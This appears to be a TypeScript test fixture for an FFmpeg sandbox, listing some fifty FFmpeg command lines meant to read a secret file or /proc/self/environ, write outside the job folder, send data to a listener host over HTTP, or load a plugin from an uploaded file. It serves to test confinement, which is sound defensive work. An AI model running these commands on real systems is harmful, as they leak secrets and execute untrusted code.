/** Command lines that read, write, connect or execute what lies outside of a job. */
export interface Attack {
  readonly name: string
  /** What goes behind FFmpeg's name. */
  readonly argv: readonly string[]
}

export interface Targets {
  /** A file outside every rule that the user may read; 4 KiB or more of a repeated canary. */
  readonly secret: string
  /** The same, relative to the working folder. */
  readonly relativeSecret: string
  /** A folder outside that the user may write to, and the same relatively. */
  readonly outside: string
  readonly relativeOutside: string
  /** `host:port` of a listener. */
  readonly host: string
}

/** Each was made against an FFmpeg without a sandbox, where nearly all of them work. */
export function attacks(targets: Targets): Attack[] {
  const escapedHost = targets.host.replace(':', String.raw`\\:`)
  return lines
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => {
      const [name = '', ...words] = line.split(/\s+/)
      const argv = words.map((word) =>
        word
          .replaceAll('HOST_E', escapedHost)
          .replaceAll('HOST', targets.host)
          .replaceAll('REL_SECRET', targets.relativeSecret)
          .replaceAll('SECRET', targets.secret)
          .replaceAll('REL_OUT', targets.relativeOutside)
          .replaceAll('OUT', targets.outside),
      )
      return { name, argv }
    })
}

const lines = String.raw`
R01 -f data -i SECRET -map 0 -c copy -f data o.bin
R02 -f data -i file:SECRET -map 0 -c copy -f data o.bin
R03 -f data -i concat:SECRET -map 0 -c copy -f data o.bin
R04 -f data -i subfile,,start,0,end,21,,:SECRET -map 0 -c copy -f data o.bin
R05 -f data -i cache:SECRET -map 0 -c copy -f data o.bin
R06 -f data -i async:SECRET -map 0 -c copy -f data o.bin
R07 -f data -i concatf:lstc -map 0 -c copy -f data o.bin
R08 -f data -i REL_SECRET -map 0 -c copy -f data o.bin
R09 -f data -i /proc/self/environ -map 0 -c copy -f data o.bin
R10 -f u8 -ar 8000 -ac 1 -i SECRET -f u8 o.bin
R11 -f rawvideo -pix_fmt gray -s 30x1 -i SECRET -frames:v 1 -f rawvideo o.bin
R12 -f lavfi -i amovie=SECRET:f=u8 -f u8 o.bin
R13 -i in.mp4 -map 0 -c copy -attach SECRET -metadata:s:t mimetype=text/plain -f matroska o.bin
R14 -i in.mp4 -c copy -/metadata SECRET -f matroska o.bin
R15 -i in.mp4 -vf sendcmd=f=SECRET -f null -
R16 -i in.mp4 -vf null=/x=SECRET -f null -
R17 -/filter_complex SECRET -i in.mp4 -f null -
R18 -f lavfi -graph_file SECRET -i x -f null -
R19 -enable_drefs 1 -use_absolute_path 1 -i dref.mov -map 0:a -c copy -f data o.bin
R20 -dump -hex -f data -i SECRET -map 0 -c copy -f null -
R21 -i in.mp4 -fpre:v SECRET -c:v libx264 -f null -
R22 -f microdvd -i SECRET -c:s srt -f srt o.bin
R23 -i in.mp4 -vf drawtext=/text=SECRET:fontfile=/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf -frames:v 1 -f md5 o.md5
W01 -i in.mp4 -c copy -f mp4 OUT/a
W02 -i in.mp4 -c copy -f mp4 REL_OUT/a
W03 -progress OUT/p -i in.mp4 -c:v libx264 -f null -
W04 -vstats_file OUT/v -i in.mp4 -c:v libx264 -f null -
W05 -i in.mp4 -c:v libx264 -b:v 100k -pass 1 -passlogfile OUT/pl -an -f null -
W06 -i in.mp4 -stats_enc_pre OUT/s -c:v libx264 -f null -
W07 -dump_attachment:t:0 OUT/att -i att.mkv -f null -
W08 -i in.mp4 -map 0 -c copy -f tee OUT/t.mp4|o2.ts
W09 -i in.mp4 -c copy -f segment -segment_list OUT/l.csv s%d.ts
W10 -i in.mp4 -c copy -f hls -hls_segment_filename OUT/h%d.ts h.m3u8
W11 -i in.mp4 -vf metadata=print:file=OUT/md -f null -
W12 -i in.mp4 -vf vidstabdetect=result=OUT/tr -f null -
W13 -i in.mp4 -vf signature=filename=OUT/sig -f null -
W14 -i in.mp4 -vf curves=preset=vintage:plot=OUT/cp -f null -
W15 -i in.mp4 -af firequalizer=dumpfile=OUT/fe -f null -
W16 -i in.mp4 -c:v libx264 -x264-params dump-yuv=OUT/y -an -f null -
W17 -i in.mp4 -c:v libx264 -x264-params pass=1:stats=OUT/x:bitrate=100 -an -f null -
W18 -i in.mp4 -c:v libx265 -x265-params csv=OUT/c:csv-log-level=2 -an -f null -
N01 -f data -i http://HOST/meta -map 0 -c copy -f data o.bin
N02 -i in.mp4 -c copy -f mpegts http://HOST/up
N03 -i in.mp4 -c copy -f hls -method PUT http://HOST/up/x.m3u8
N04 -progress http://HOST/prog -i in.mp4 -f null -
N05 -protocol_whitelist file -f lavfi -i amovie=http\\://HOST_E/meta:f=u8 -f u8 o.bin
N06 -i in.mp4 -c copy -f hls -hls_enc 1 -hls_enc_key_url http://HOST/k x.m3u8
N07 -protocol_whitelist file,http,tcp -f hls -i http://HOST/in.mp4 -c copy -f null -
N08 -i in.mp4 -map 0 -c copy -f tee [f=mpegts]http://HOST/t|o2.ts
X01 -i in.mp4 -af ladspa=file=/job/work/evil.mp4:plugin=x -f null -
`
